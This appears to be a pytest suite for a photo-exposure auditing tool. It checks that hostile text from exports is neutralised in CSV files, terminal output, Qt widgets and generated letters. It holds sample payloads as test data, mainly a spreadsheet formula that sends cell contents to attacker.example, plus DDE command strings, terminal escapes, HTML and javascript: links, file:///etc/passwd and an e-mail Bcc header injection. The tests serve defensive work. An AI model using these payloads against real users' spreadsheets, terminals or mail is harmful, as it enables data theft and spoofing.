"""Attacks through text in exports: spreadsheet formulas, terminal escapes, rich text and link
schemes in the app, and e-mail header injection in letters."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from exposure_audit.audit.store import Audit
from exposure_audit.cli.main import run
from exposure_audit.escaping import csv_safe, safe_link, terminal_safe
from exposure_audit.rights.evidence import build_letter, save_identity, suggest_account_ids
from exposure_audit.rights.letters import EvidenceRow, Identity, render_eml, render_text
from tests.support.exportkit import as_json, face
from tests.support.scanning import enrolled_audit, run_scan

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
RICH = "<h1 style=color:red>PWNED<img src=x>"
LIB = "Takeout/Google Photos/Photos from 2024/"


def _hostile_takeout(path: Path) -> Path:
    """A Google Takeout whose photo of the user carries hostile names, caption and link."""
    name = f"{ESCAPES}{RICH}.jpg"
    sidecar = {
        "title": name,
        "description": FORMULA,
        "photoTakenTime": {"timestamp": "1709647331"},
        "creationTime": {"timestamp": "1709650931"},
        "people": [{"name": AT_SUM}, {"name": "-2+3"}],
        "url": "javascript:alert(document.cookie)",
    }
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(LIB + name, face("obama3.jpg"))
        archive.writestr(LIB + name + ".supplemental-metadata.json", as_json(sidecar))
        archive.writestr(f"{LIB}{ESCAPES}broken.jpg", b"not a photo at all")
    return path


@pytest.fixture(scope="module")
def hostile_audit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    path = root / "a.audit"
    with enrolled_audit(path) as audit:
        run_scan(audit, [_hostile_takeout(root / "takeout-20240305T000000Z-001.zip")])
        (row,) = audit.findings()
        assert row.context["caption"] == FORMULA
        audit.set_decision(row.face_id, "me")
        save_identity(audit, Identity("Doe, Jane", ("Main St 1",), "jane@example.org"))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start like a formula


def test_report_csv_neutralises_formulas(hostile_audit: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    assert run(["report", "--audit", str(hostile_audit), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    cells = _cells(text)
    _assert_no_formula(cells)
    assert "'" + FORMULA in cells
    assert any(cell.startswith("'" + AT_SUM) for cell in cells)


def test_findings_csv_neutralises_formulas(
    hostile_audit: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["findings", "--audit", str(hostile_audit), "--csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    _assert_no_formula(cells)
    assert any(cell.replace(".", "", 1).isdigit() for cell in cells)  # distances stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        (COMMAND, "'" + COMMAND),
        ("-2+3", "'-2+3"),
        ("\tTAB", "'\tTAB"),
        ("\r=1", "'\r=1"),
        ("-0.25", "-0.25"),
        (0.25, 0.25),
        ("Beach day", "Beach day"),
    ],
)
def test_csv_cells(value: Any, cell: Any) -> None:
    assert csv_safe(value) == cell


def test_findings_in_the_terminal_show_escapes_escaped(
    hostile_audit: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["findings", "--audit", str(hostile_audit)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out


def test_scan_problems_in_the_terminal_show_escapes_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.audit"
    enrolled_audit(path).close()
    source = _hostile_takeout(tmp_path / "export.zip")
    code = run(["scan", "--audit", str(path), "--source", str(source), "--workers", "1"])
    assert code == 0
    err = capsys.readouterr().err
    assert "broken.jpg" in err
    assert "\x1b" not in err
    assert terminal_safe("a\x1b[2Jb\u202e") == "a\\x1b[2Jb\\u202e"


def test_letters_quote_the_sender_and_keep_account_ids_on_one_line(
    hostile_audit: Path, tmp_path: Path
) -> None:
    with Audit.open(hostile_audit) as audit:
        (source,) = audit.sources()
        audit.set_source_account(
            source.id, "Google", {"user": "jdoe\r\nBcc: everyone@example.org\r\n\r\nHi"}
        )
        suggested = suggest_account_ids(audit)
        assert suggested == {"Google user": "jdoe Bcc: everyone@example.org Hi"}
        req = build_letter(audit, "google", ["access"])
    identity = Identity("Doe, Jane", (), "jane@example.org", suggested)
    req = replace(req, identity=identity)
    assert not any(line.startswith("Bcc:") for line in render_text(req).splitlines())
    out = render_eml(req, tmp_path / "letter.eml")
    message = email.message_from_bytes(out.read_bytes(), policy=email.policy.default)
    (sender,) = message["From"].addresses
    assert (sender.display_name, sender.addr_spec) == ("Doe, Jane", "jane@example.org")
    assert message["Bcc"] is None


def test_the_leak_guard_knows_real_encodings_not_long_numbers(hostile_audit: Path) -> None:
    with Audit.open(hostile_audit) as audit:
        req = build_letter(audit, "google", ["access"])
        encoding = audit.references()[0].encoding
    decimals = " ".join(f"{0.1 * i + 0.00005:.5f}" for i in range(40))
    innocent = EvidenceRow("Google", "x", f"holiday {decimals}.jpg", "2024-03-05", "e" * 64)
    assert decimals in render_text(replace(req, evidence=(innocent,)))
    leaked = EvidenceRow("Google", " ".join(f"{v:.6f}" for v in encoding[:12]), "p", "d", "e" * 64)
    with pytest.raises(ValueError, match="encodings must never leak"):
        render_text(replace(req, evidence=(leaked,)))


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "file://attacker-host/share/x.jpg",
        "data:text/html,<script>alert(1)</script>",
        "smb://host/share",
        "http:///no-host",
    ],
)
def test_only_web_links_are_ever_opened(url: str) -> None:
    assert safe_link(url) is None


def test_the_findings_pane_links_only_web_addresses(
    qapp: Any, hostile_audit: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtGui import QDesktopServices

    from ui.pages.findings.details import context_html, open_link

    opened: list[str] = []
    monkeypatch.setattr(
        QDesktopServices, "openUrl", lambda url: opened.append(url.toString()) or True
    )
    with Audit.open(hostile_audit) as audit:
        (row,) = audit.findings()
    shown = context_html(row, 0.6)
    assert "href" not in shown
    assert "javascript:alert" in shown  # shown as text
    assert "<h1" not in shown
    for url in ("javascript:alert(1)", "file:///etc/passwd", "file://host/share"):
        assert open_link(url) is False
    open_link("https://example.org/photo")
    assert opened == ["https://example.org/photo"]


def test_export_text_is_plain_text_in_the_app(qapp: Any, tmp_path: Path) -> None:
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QLabel, QMessageBox

    from exposure_audit.scan.pipeline import Progress
    from ui import errors
    from ui.app import create_window

    window = create_window()
    try:
        location = f"export.zip!/{RICH}.jpg"
        window.scan._show_progress(Progress(1, 2, 1, 1, 0, 1.0, None, location), paused=False)
        holding = [label for label in window.findChildren(QLabel) if RICH in label.text()]
        assert holding
        assert all(label.textFormat() == Qt.TextFormat.PlainText for label in holding)
        errors.explain(window, f"cannot read {RICH}.jpg")
        boxes = [box for box in window.findChildren(QMessageBox) if RICH in box.text()]
        assert boxes
        assert all(box.textFormat() == Qt.TextFormat.PlainText for box in boxes)
        for box in boxes:
            box.close()
    finally:
        window.close()


def test_tooltips_show_export_text_literally(qapp: Any, hostile_audit: Path) -> None:
    from PySide6.QtCore import Qt

    from ui.models.findings import FindingsModel

    with Audit.open(hostile_audit) as audit:
        rows = audit.findings()
    model = FindingsModel()
    model.set_rows(rows)
    tip = model.data(model.index(0, 0), Qt.ItemDataRole.ToolTipRole)
    assert "<h1" not in tip
    assert "&lt;h1 style=color:red&gt;PWNED" in tip
